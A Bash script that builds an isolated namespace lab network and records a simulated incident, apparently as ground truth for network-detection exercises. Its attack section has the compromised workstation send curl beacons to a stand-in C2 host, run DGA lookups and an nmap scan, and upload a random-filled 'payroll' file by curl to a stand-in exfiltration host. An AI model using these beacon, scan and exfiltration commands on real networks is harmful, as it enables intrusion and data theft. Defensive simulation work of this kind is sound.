#!/usr/bin/env bash
# Records the demo incident: a small site built from network namespaces, real programs making real
# traffic, one compromised workstation. See README.md in this directory for what comes out and
# GROUND_TRUTH.md for what happened.
#
#   sudo demo/incident/record.sh [OUTDIR]        (OUTDIR defaults to this directory)
#
# Needs root and Debian's iproute2 iptables ulogd2 rsyslog dnsmasq openssh-server openssh-client
# python3 curl bind9-dnsutils nmap tcpdump wireshark-common (mergecap) softflowd nfdump ethtool openssl.
# Everything happens inside namespaces named nji-*: the "internet" uses documentation ranges
# (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) that exist only in the nji-inet namespace, so no
# packet leaves the machine. Idempotent (leftovers of an earlier run are removed first), self-cleaning
# (a trap deletes the namespaces and stops every process it started) and bounded: the traffic runs
# for PHASE1 + PHASE2 seconds (60 + 120 by default) and the whole run is killed after 10 minutes.
set -euo pipefail

HERE="$(cd "$(dirname "$0")" && pwd)"
OUT="$(mkdir -p "${1:-$HERE}" && cd "${1:-$HERE}" && pwd)"
PHASE1="${PHASE1:-60}"   # seconds of normal traffic only: the baseline
PHASE2="${PHASE2:-120}"  # seconds of the incident (normal traffic continues)
PY=/usr/bin/python3
ULOGD_PLUGINS=/usr/lib/x86_64-linux-gnu/ulogd
[ "$(id -u)" = 0 ] || { echo "record.sh: must run as root (network namespaces, iptables)" >&2; exit 2; }
for c in ip iptables ulogd rsyslogd dnsmasq sshd ssh ssh-keygen curl dig nmap tcpdump mergecap softflowd nfcapd nfdump softflowctl ethtool openssl unshare "$PY"; do
  command -v "$c" >/dev/null || { echo "record.sh: $c is missing (see the package list at the top)" >&2; exit 2; }
done

NSES=(nji-rtr nji-inet nji-ns1 nji-files nji-jump nji-admin nji-alice nji-carol nji-bob)
W="$(mktemp -d /tmp/nji-record.XXXXXX)"
PIDS=()

cleanup() {
  set +e
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  sleep 0.5
  for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null; done
  for ns in "${NSES[@]}"; do
    # Anything still running inside one of our namespaces was started by this script.
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
    ip netns del "$ns" 2>/dev/null
    rm -rf "/etc/netns/$ns"
  done
  [ -n "${KEEP_WORK:-}" ] && echo "work directory kept: $W" || rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
# Bound the run: a watchdog ends this script if anything hangs.
( sleep 600 & s=$!; trap 'kill $s; exit 0' TERM; wait $s && { echo "record.sh: timed out" >&2; kill -TERM $$; } ) &
PIDS+=($!)

# Leftovers of an interrupted earlier run.
for ns in "${NSES[@]}"; do
  if ip netns list | grep -qw "$ns"; then
    for p in $(ip netns pids "$ns"); do kill -9 "$p" 2>/dev/null || true; done
    ip netns del "$ns"
  fi
done

nsx() { local ns="$1"; shift; ip netns exec "nji-$ns" "$@"; }
nsbg() { local ns="$1"; shift; ip netns exec "nji-$ns" "$@" & PIDS+=($!); }
now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }
# One line per thing a host was made to do: the raw material of ground-truth.json.
act() { printf '%s\t%s\t%s\n' "$(now)" "$1" "$2" >>"$W/actions.tsv"; }

# ---------------------------------------------------------------------------------------------------
# Topology. nji-rtr routes and filters between three segments: corp (bridge br-corp), servers (bridge
# br-srv) and the uplink wan0 to nji-inet, which holds every "internet" address.
# ---------------------------------------------------------------------------------------------------
for ns in "${NSES[@]}"; do
  ip netns add "$ns"
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip netns exec "$ns" ip link set lo up
done
nsx rtr sysctl -qw net.ipv4.ip_forward=1
nsx rtr ip link add br-corp type bridge
nsx rtr ip link add br-srv type bridge
nsx rtr ip addr add 10.10.1.1/24 dev br-corp
nsx rtr ip addr add 10.10.2.1/24 dev br-srv
nsx rtr ip link set br-corp up
nsx rtr ip link set br-srv up

# Segmentation and receive offloads off: packets stay MTU-sized, as a router's span port would see them
# (with offloads, veth captures hold 64 KB super-packets).
nooffload() { nsx "$1" ethtool -K "$2" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true; }

# host NAME ADDRESS BRIDGE: a namespace with eth0 on one of the router's segments.
host() {
  local name="$1" addr="$2" br="$3" gw
  gw="${addr%.*}.1"
  ip link add "v-$name" netns nji-rtr type veth peer name eth0 netns "nji-$name"
  nsx rtr ip link set "v-$name" master "$br" up
  nsx "$name" ip addr add "$addr/24" dev eth0
  nsx "$name" ip link set eth0 up
  nsx "$name" ip route add default via "$gw"
  nooffload "$name" eth0
  nooffload rtr "v-$name"
  mkdir -p "/etc/netns/nji-$name"
  printf 'nameserver 10.10.2.53\n' >"/etc/netns/nji-$name/resolv.conf"
}
host ns1 10.10.2.53 br-srv
host files 10.10.2.20 br-srv
host jump 10.10.2.22 br-srv
host admin 10.10.1.10 br-corp
host alice 10.10.1.21 br-corp
host carol 10.10.1.22 br-corp
host bob 10.10.1.23 br-corp

ip link add wan0 netns nji-rtr type veth peer name eth0 netns nji-inet
nsx rtr ip addr add 192.0.2.2/24 dev wan0
nsx rtr ip link set wan0 up
nsx rtr ip route add default via 192.0.2.1
nsx inet ip addr add 192.0.2.1/24 dev eth0
nsx inet ip link set eth0 up
nooffload rtr wan0
nooffload inet eth0
nooffload rtr br-corp
nooffload rtr br-srv
for a in 198.51.100.20 198.51.100.21 198.51.100.30 198.51.100.53 203.0.113.66 203.0.113.99; do
  nsx inet ip addr add "$a/32" dev lo
done

# ---------------------------------------------------------------------------------------------------
# The firewall: default drop, every new allowed connection and every drop logged through NFLOG with
# the rule's name as prefix ("ALLOW corp-web", "DROP corp-dns-outside"), NAT to the uplink address.
# corp-web is deliberately too broad: the egress policy allows 80 and 443, the rule also opens 8080.
# ---------------------------------------------------------------------------------------------------
ipt() { nsx rtr iptables "$@"; }
allow() { local n="$1"; shift; ipt -A FORWARD "$@" -m conntrack --ctstate NEW -j NFLOG --nflog-group 1 --nflog-prefix "ALLOW $n"; ipt -A FORWARD "$@" -m conntrack --ctstate NEW -j ACCEPT; }
deny() { local n="$1"; shift; ipt -A FORWARD "$@" -j NFLOG --nflog-group 1 --nflog-prefix "DROP $n"; ipt -A FORWARD "$@" -j DROP; }
ipt -P FORWARD DROP
ipt -A FORWARD -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT
allow corp-dns -s 10.10.1.0/24 -d 10.10.2.53 -p udp --dport 53
allow corp-dns -s 10.10.1.0/24 -d 10.10.2.53 -p tcp --dport 53
allow corp-fileserver -s 10.10.1.0/24 -d 10.10.2.20 -p tcp -m multiport --dports 80,443,445
allow admin-ssh -s 10.10.1.10 -d 10.10.2.0/24 -p tcp --dport 22
allow corp-web -s 10.10.1.0/24 ! -d 10.10.0.0/16 -p tcp -m multiport --dports 80,443,8080
allow resolver-upstream -s 10.10.2.53 -d 198.51.100.53 -p udp --dport 53
allow resolver-upstream -s 10.10.2.53 -d 198.51.100.53 -p tcp --dport 53
allow servers-updates -s 10.10.2.0/24 ! -d 10.10.0.0/16 -p tcp -m multiport --dports 80,443
deny corp-dns-outside -s 10.10.1.0/24 -p udp --dport 53
deny corp-dns-outside -s 10.10.1.0/24 -p tcp -m multiport --dports 53,853
deny default
ipt -t nat -A POSTROUTING -o wan0 -j MASQUERADE
nsx rtr iptables-save >"$W/iptables.rules"

# Firewall log: ulogd2 reads NFLOG group 1 and hands each line to syslog; rsyslog (host name fw1)
# writes it with RFC 3339 stamps, so the log says which year it is. ulogd runs in a private mount
# namespace whose /dev/log points at rsyslog's socket in the work directory: nothing on the machine
# outside this run ever sees these messages.
mkdir -p "$W/rsyslog"
cat >"$W/rsyslog.conf" <<EOF
global(workDirectory="$W/rsyslog" localHostName="fw1")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="$W/devlog" CreatePath="on")
if \$programname == 'ulogd' then {
  action(type="omfile" file="$W/firewall.log" template="RSYSLOG_FileFormat")
}
EOF
cat >"$W/ulogd.conf" <<EOF
[global]
logfile="$W/ulogd.log"
loglevel=3
plugin="$ULOGD_PLUGINS/ulogd_inppkt_NFLOG.so"
plugin="$ULOGD_PLUGINS/ulogd_raw2packet_BASE.so"
plugin="$ULOGD_PLUGINS/ulogd_filter_IFINDEX.so"
plugin="$ULOGD_PLUGINS/ulogd_filter_IP2STR.so"
plugin="$ULOGD_PLUGINS/ulogd_filter_PRINTPKT.so"
plugin="$ULOGD_PLUGINS/ulogd_output_SYSLOG.so"
stack=log1:NFLOG,base1:BASE,ifi1:IFINDEX,ip2str1:IP2STR,print1:PRINTPKT,sys1:SYSLOG
[log1]
group=1
[sys1]
facility=LOG_LOCAL2
level=LOG_NOTICE
EOF

# ---------------------------------------------------------------------------------------------------
# Servers. One self-signed certificate names every TLS site; clients trust it.
# ---------------------------------------------------------------------------------------------------
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=demo-incident" -keyout "$W/key.pem" -out "$W/cert.pem" \
  -addext "subjectAltName=DNS:www.example.com,DNS:news.example.org,DNS:updates.example-cdn.net,DNS:c2.badcorp.example,DNS:files.corp.example" 2>/dev/null
cat "$W/cert.pem" "$W/key.pem" >"$W/server.pem"

cat >"$W/dns-public.conf" <<EOF
# The outside "public resolver": answers the internet's names, NXDOMAIN for anything else.
no-resolv
no-hosts
listen-address=198.51.100.53
bind-interfaces
user=root
local-ttl=300
local=/com/net/org/example/
host-record=www.example.com,198.51.100.20
host-record=news.example.org,198.51.100.21
host-record=updates.example-cdn.net,198.51.100.30
host-record=c2.badcorp.example,203.0.113.66
host-record=files.exfil.example,203.0.113.99
host-record=dns.public-resolver.example,198.51.100.53
log-queries
log-facility=$W/dns-public.log
pid-file=$W/dns-public.pid
EOF
cat >"$W/dns-internal.conf" <<EOF
# The sanctioned resolver: site names, a sinkhole for one blocklisted domain, everything else forwarded.
no-resolv
no-hosts
listen-address=10.10.2.53
bind-interfaces
user=root
domain-needed
server=198.51.100.53
local=/corp.example/
local-ttl=300
host-record=ns1.corp.example,10.10.2.53
host-record=files.corp.example,10.10.2.20
host-record=jump.corp.example,10.10.2.22
host-record=ws-admin.corp.example,10.10.1.10
host-record=ws-alice.corp.example,10.10.1.21
host-record=ws-carol.corp.example,10.10.1.22
host-record=ws-bob.corp.example,10.10.1.23
address=/malware-drop.example/0.0.0.0
log-queries
log-facility=$W/dns-internal.log
pid-file=$W/dns-internal.pid
EOF
nsbg inet dnsmasq -k -C "$W/dns-public.conf"
nsbg ns1 dnsmasq -k -C "$W/dns-internal.conf"

nsbg inet "$PY" "$HERE/webserver.py" --cert "$W/server.pem" \
  198.51.100.20:80 198.51.100.20:443:tls 198.51.100.21:443:tls 198.51.100.30:443:tls \
  203.0.113.66:443:tls 203.0.113.99:8080 >"$W/web-inet.log" 2>&1
nsbg files "$PY" "$HERE/webserver.py" --cert "$W/server.pem" --page-bytes 12000 \
  10.10.2.20:80 10.10.2.20:443:tls >"$W/web-files.log" 2>&1

mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -C admin@ws-admin -f "$W/admin_key"
cp "$W/admin_key.pub" "$W/authorized_keys"
cat >"$W/sshd_config" <<EOF
ListenAddress 10.10.2.22
HostKey $W/ssh_host_ed25519_key
PidFile $W/sshd.pid
AuthorizedKeysFile $W/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
StrictModes no
UsePAM no
EOF
nsbg jump /usr/sbin/sshd -D -e -f "$W/sshd_config" 2>"$W/sshd.log"

# Wait until every server answers, asking from the router itself (its own traffic is neither logged
# nor captured), then start the firewall log and the capture.
for _ in $(seq 100); do
  if nsx rtr dig @10.10.2.53 +short +time=1 +tries=1 dns.public-resolver.example 2>/dev/null | grep -q 198.51.100.53 &&
     nsx rtr curl -s -o /dev/null http://10.10.2.20/ready && nsx rtr curl -s -o /dev/null http://198.51.100.20/ready &&
     nsx rtr bash -c 'exec 3<>/dev/tcp/10.10.2.22/22' 2>/dev/null; then break; fi
  sleep 0.2
done
nsbg rtr rsyslogd -n -f "$W/rsyslog.conf" -i "$W/rsyslog.pid"
for _ in $(seq 50); do [ -S "$W/devlog" ] && break; sleep 0.1; done
nsbg rtr unshare -m --propagation private sh -c 'mount -t tmpfs tmpfs /dev && ln -s "$1" /dev/log && exec ulogd -c "$2"' _ "$W/devlog" "$W/ulogd.conf" </dev/null >"$W/ulogd.out" 2>&1

# Capture: the router sees everything the corp segment sends or receives, and the servers segment's
# own traffic (its talk with corp is already on the corp capture: no packet is recorded twice).
nsbg rtr tcpdump -q -i br-corp -s 0 -U -w "$W/corp.pcap" 2>"$W/tcpdump-corp.err"
nsbg rtr tcpdump -q -i br-srv -s 0 -U -w "$W/srv.pcap" 'not net 10.10.1.0/24' 2>"$W/tcpdump-srv.err"
sleep 2

# ---------------------------------------------------------------------------------------------------
# Traffic. T0 starts the baseline (normal traffic from every workstation); at T1 = T0 + PHASE1 ws-bob
# is compromised; everything stops at T2 = T1 + PHASE2.
# ---------------------------------------------------------------------------------------------------
T0=$(date +%s)
T1=$((T0 + PHASE1))
T2=$((T1 + PHASE2))
printf '%s\n' "$(date -u -d "@$T0" +%FT%TZ)" "$(date -u -d "@$T1" +%FT%TZ)" "$(date -u -d "@$T2" +%FT%TZ)" >"$W/phases.txt"
UA_WIN='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36'
SITES=(https://www.example.com/ https://news.example.org/ https://updates.example-cdn.net/v2/manifest.json
       http://www.example.com/index.html https://files.corp.example/share/ http://files.corp.example/)
LOOKUPS=(www.example.com news.example.org updates.example-cdn.net files.corp.example)

# browse NAME SEED: a user's normal day, compressed. A page every 3 to 9 seconds, sometimes a lookup.
browse() {
  local name="$1" url
  RANDOM="$2"
  sleep "$((RANDOM % 3)).$((RANDOM % 10))"
  while [ "$(date +%s)" -lt "$T2" ]; do
    url="${SITES[RANDOM % ${#SITES[@]}]}"
    act "$name" "browse $url"
    nsx "$name" curl -s -o /dev/null -m 10 --cacert "$W/cert.pem" -A "$UA_WIN" "$url" || act "$name" "browse-failed $url"
    if [ $((RANDOM % 4)) = 0 ]; then
      local n="${LOOKUPS[RANDOM % ${#LOOKUPS[@]}]}"
      act "$name" "lookup $n"
      nsx "$name" dig +short +time=2 +tries=1 "$n" >/dev/null || true
    fi
    sleep "$((3 + RANDOM % 6)).$((RANDOM % 10))"
  done
}

# The IT administrator also logs in to the jump host now and then (the one workstation allowed to).
admin_ssh() {
  RANDOM=77
  sleep 7
  while [ "$(date +%s)" -lt "$T2" ]; do
    act admin "ssh root@10.10.2.22 uptime"
    nsx admin ssh -i "$W/admin_key" -o BatchMode=yes -o StrictHostKeyChecking=accept-new \
      -o UserKnownHostsFile="$W/known_hosts" -o ConnectTimeout=5 root@10.10.2.22 uptime >/dev/null 2>&1 || act admin "ssh-failed"
    sleep "$((35 + RANDOM % 15))"
  done
}

# The file server checks for updates twice a minute (servers zone egress).
updates() {
  sleep 11
  while [ "$(date +%s)" -lt "$T2" ]; do
    act files "update-check https://updates.example-cdn.net/v2/manifest.json"
    nsx files curl -s -o /dev/null -m 10 --cacert "$W/cert.pem" -A 'apt-transport/2.6' https://updates.example-cdn.net/v2/manifest.json || true
    sleep 30
  done
}

# The implant's check-in: every 5 s with +-1 s of jitter, from T1 + 3 s, BEACONS times.
BEACONS=$(( (PHASE2 - 8) / 5 ))
beacon() {
  RANDOM=4242
  sleep 3
  local i
  for i in $(seq "$BEACONS"); do
    act bob "beacon $i https://c2.badcorp.example/api/v1/beacon?id=7f3a9c"
    nsx bob curl -s -k -o /dev/null -m 4 -A "$UA_WIN" "https://c2.badcorp.example/api/v1/beacon?id=7f3a9c&n=$i" || act bob "beacon-failed $i"
    sleep "$((4 + RANDOM % 2)).$((RANDOM % 10))"
  done
}

DGA=(qx7rz2vk9pl4mw8t.com bz3k8fj2nq5xv7yd.net h7w2xq9z4kpm3rtv.org)
attack() {
  sleep "$((T1 - $(date +%s)))"
  beacon &
  for n in "${DGA[@]}"; do
    act bob "dga-lookup $n"
    nsx bob dig +time=2 +tries=1 "$n" >>"$W/bob-dig.txt" 2>&1 || true
  done
  sleep 7
  act bob "sinkholed-lookup malware-drop.example"
  nsx bob dig +time=2 +tries=1 malware-drop.example >>"$W/bob-dig.txt" 2>&1 || true
  sleep 10
  act bob "outside-resolver udp 198.51.100.53:53 c2.badcorp.example"
  nsx bob dig @198.51.100.53 +time=2 +tries=2 c2.badcorp.example >>"$W/bob-dig.txt" 2>&1 || true
  sleep 6
  act bob "scan nmap -sS -Pn -n -T4 --max-retries 1 -p 22,80,139,443,445,3389 10.10.2.16/28 10.10.2.53"
  nsx bob nmap -sS -Pn -n -T4 --max-retries 1 -p 22,80,139,443,445,3389 -oX "$W/nmap.xml" 10.10.2.16/28 10.10.2.53 >"$W/nmap.txt" 2>&1 || true
  act bob "scan-done"
  sleep 5
  act bob "ssh administrator@10.10.2.22"
  nsx bob ssh -o BatchMode=yes -o ConnectTimeout=6 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    administrator@10.10.2.22 true >/dev/null 2>&1 || act bob "ssh-failed"
  sleep 4
  act bob "smb tcp 10.10.2.20:445"
  nsx bob bash -c 'exec 3<>/dev/tcp/10.10.2.20/445' 2>/dev/null || act bob "smb-refused"
  sleep 6
  head -c 2097152 /dev/urandom >"$W/q3-payroll.7z"
  act bob "upload 2097152 http://files.exfil.example:8080/upload"
  nsx bob curl -s -o /dev/null -m 60 -A 'curl/7.88.1' -H 'Content-Type: application/octet-stream' \
    --data-binary @"$W/q3-payroll.7z" http://files.exfil.example:8080/upload || act bob "upload-failed"
  act bob "upload-done"
  wait
}

echo "recording: baseline ${PHASE1}s, incident ${PHASE2}s (work directory $W)"
browse admin 101 & PIDS+=($!)
browse alice 202 & PIDS+=($!)
browse carol 303 & PIDS+=($!)
browse bob 404 & PIDS+=($!)
admin_ssh & PIDS+=($!)
updates & PIDS+=($!)
attack & ATTACK=$!
PIDS+=("$ATTACK")
wait "$ATTACK"
while [ "$(date +%s)" -lt "$((T2 + 12))" ]; do sleep 1; done   # let the last browsing and TCP teardowns finish

# ---------------------------------------------------------------------------------------------------
# Stop the capture and the firewall log, merge the two capture points, export flows.
# ---------------------------------------------------------------------------------------------------
for p in $(ip netns pids nji-rtr); do
  case "$(cat "/proc/$p/comm" 2>/dev/null)" in tcpdump | ulogd) kill "$p" ;; esac
done
sleep 2
for p in $(ip netns pids nji-rtr); do [ "$(cat "/proc/$p/comm" 2>/dev/null)" = rsyslogd ] && kill "$p"; done
sleep 1
mergecap -F pcap -w "$W/capture.pcap" "$W/corp.pcap" "$W/srv.pcap"

# IPFIX from the router's address, as softflowd on the router would send it (absolute millisecond
# timestamps: NetFlow v9 headers carry whole seconds only, which would put every flow up to a second
# early); the export datagrams are captured on the router's loopback, nfcapd receives them.
mkdir -p "$W/nfcapd"
nsbg rtr nfcapd -b 10.10.2.1 -p 4739 -w "$W/nfcapd" -P "$W/nfcapd.pid" >"$W/nfcapd.log" 2>&1
nsbg rtr tcpdump -q -i lo -s 0 -U -w "$W/flows.pcap" 'udp port 4739' 2>"$W/tcpdump-flows.err"
sleep 2
# softflowd 1.1.0 reading a file waits on its control socket before the first packet and again at the
# end: one softflowctl command lets it read, "shutdown" makes it export what it holds and exit.
cd "$W"   # softflowd names the "interface" after the file it reads: capture.pcap, not a temporary path
nsbg rtr softflowd -r capture.pcap -a -v 10 -A milli -n 10.10.2.1:4739 -p "$W/softflowd.pid" -c "$W/softflowd.ctl" -d >"$W/softflowd.log" 2>&1
cd "$HERE"
for _ in $(seq 50); do [ -S "$W/softflowd.ctl" ] && break; sleep 0.1; done
softflowctl -c "$W/softflowd.ctl" statistics >/dev/null
sleep 3
softflowctl -c "$W/softflowd.ctl" shutdown >>"$W/softflowd.log"
sleep 2
for p in $(ip netns pids nji-rtr); do
  case "$(cat "/proc/$p/comm" 2>/dev/null)" in tcpdump | nfcapd) kill "$p" ;; esac
done
sleep 2

mkdir -p "$OUT/data"
cp "$W/capture.pcap" "$W/flows.pcap" "$W/firewall.log" "$OUT/data/"
nfdump -R "$W/nfcapd" -q -o csv >"$W/nfdump.csv" 2>/dev/null || true
"$PY" "$HERE/ground_truth.py" "$W" "$OUT"
echo "done: $(cd "$OUT" && ls -l data/capture.pcap data/flows.pcap data/firewall.log ground-truth.json | awk '{print $5, $9}' | tr '\n' ' ')"
